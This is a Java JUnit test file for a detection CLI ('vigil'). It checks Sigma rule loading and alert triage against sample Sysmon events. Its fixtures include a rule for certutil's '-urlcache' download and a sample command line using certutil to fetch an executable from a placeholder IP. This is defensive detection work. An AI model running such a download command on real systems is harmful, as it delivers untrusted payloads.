package dev.vigil.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/** {@code vigil rules check} and {@code vigil triage --rules} on rule directories written for the test. */
class DetectionCommandsTest {

    private static final String CERTUTIL_RULE = """
            title: Certutil Downloads A File
            id: 0b8d3c52-7e0c-4bb4-a6f1-2f3c1f9f2a11
            status: stable
            level: high
            description: certutil fetching a URL into the cache
            tags: [attack.command-and-control, attack.t1105]
            logsource: {product: windows, category: process_creation}
            detection:
              selection:
                Image|endswith: '\\certutil.exe'
                CommandLine|contains|windash: '-urlcache'
              condition: selection
            """;

    private static final String EVENT = """
            {"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"WS1","Image":"C:\\\\Windows\\\\System32\\\\certutil.exe","CommandLine":"certutil /urlcache -f http://203.0.113.9/a.exe a.exe","User":"CORP\\\\alice","UtcTime":"2024-05-01 10:00:00.000"}
            {"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"WS1","Image":"C:\\\\Windows\\\\System32\\\\certutil.exe","CommandLine":"certutil -hashfile a.exe SHA256","User":"CORP\\\\alice","UtcTime":"2024-05-01 10:00:01.000"}
            """;

    private final CommandRun vigil = new CommandRun();

    @Test
    void rulesCheckListsRefusedAndUnroutedRulesWithReasons(@TempDir Path dir) throws Exception {
        Files.writeString(dir.resolve("good.yml"), CERTUTIL_RULE);
        Files.createDirectories(dir.resolve("nested"));
        Files.writeString(dir.resolve("nested/broken.yml"), "title: [unclosed\n");
        Files.writeString(dir.resolve("nested/mac.yaml"), """
                title: A macOS Rule
                logsource: {product: macos, category: process_creation}
                detection: {sel: {Image|endswith: /osascript}, condition: sel}
                """);
        Files.writeString(dir.resolve("nested/modifier.yml"), """
                title: Unknown Modifier
                logsource: {product: windows, category: process_creation}
                detection: {sel: {Image|sounds_like: cmd}, condition: sel}
                """);

        int exit = vigil.run("rules", "check", dir.toString());

        String out = vigil.out.toString();
        assertThat(exit).as(out).isEqualTo(RulesCommand.RULES_REFUSED);
        assertThat(out).startsWith("1 rules loaded, 2 refused, 1 for log sources Vigil does not receive yet.");
        assertThat(out).contains("broken.yml", "malformed YAML");
        assertThat(out).contains("modifier.yml (Unknown Modifier)", "unknown modifier 'sounds_like'");
        assertThat(out).contains("mac.yaml (A macOS Rule)", "unrouted log source (product macos");
    }

    @Test
    void rulesCheckPassesTheBuiltInRulesAndRefusesAMissingDirectory(@TempDir Path dir) {
        assertThat(vigil.run("rules", "check")).as(vigil.out.toString()).isZero();
        assertThat(vigil.out.toString()).containsPattern("^\\d+ rules loaded, 0 refused");

        CommandRun missing = new CommandRun();
        assertThat(missing.run("rules", "check", dir.resolve("absent").toString()))
                .isEqualTo(VigilCommandLine.INPUT_ERROR);
        assertThat(missing.err.toString()).contains("not a readable directory of rules");
    }

    @Test
    void triageWithRulesRaisesAnAlertFromTheMatchingEventOnly(@TempDir Path dir) throws Exception {
        Path rules = Files.createDirectories(dir.resolve("rules"));
        Files.writeString(rules.resolve("certutil.yml"), CERTUTIL_RULE);
        Path events = dir.resolve("sysmon.jsonl");
        Files.writeString(events, EVENT);

        int exit = vigil.run(
                "triage", "--no-builtin-rules", "--rules", rules.toString(), "--output", "json", events.toString());

        assertThat(exit).as(vigil.err.toString()).isZero();
        JsonNode file = JsonMapper.shared().readTree(vigil.out.toString()).get(0);
        assertThat(file.get("raised").asInt()).isEqualTo(1);
        JsonNode alerts = file.get("items");
        assertThat(alerts).hasSize(1);
        JsonNode alert = alerts.get(0);
        assertThat(alert.get("title").asString()).isEqualTo("Certutil Downloads A File");
        assertThat(alert.get("severity").asString()).isEqualTo("HIGH");
        assertThat(alert.get("description").asString())
                .contains(
                        "CommandLine contains|windash /urlcache (certutil /urlcache -f http://203.0.113.9/a.exe a.exe)");
        JsonNode technique = alert.get("techniques").get(0);
        assertThat(technique.get("id").asString()).isEqualTo("T1105");
        assertThat(technique.get("source").asString()).isEqualTo("sigma");
        assertThat(technique.get("confidence").asDouble()).isEqualTo(0.85);
        assertThat(technique.get("evidence").asString()).contains("Certutil Downloads A File", "Image endswith");
    }

    @Test
    void triageWithoutTheRulesRaisesNothingFromTheSameEvents(@TempDir Path dir) throws Exception {
        Path events = dir.resolve("sysmon.jsonl");
        Files.writeString(events, EVENT);

        assertThat(vigil.run("triage", "--no-builtin-rules", "--output", "json", events.toString()))
                .isZero();

        JsonNode file = JsonMapper.shared().readTree(vigil.out.toString()).get(0);
        assertThat(file.get("items")).isEmpty();
        assertThat(file.get("raised").asInt()).isZero();
    }
}
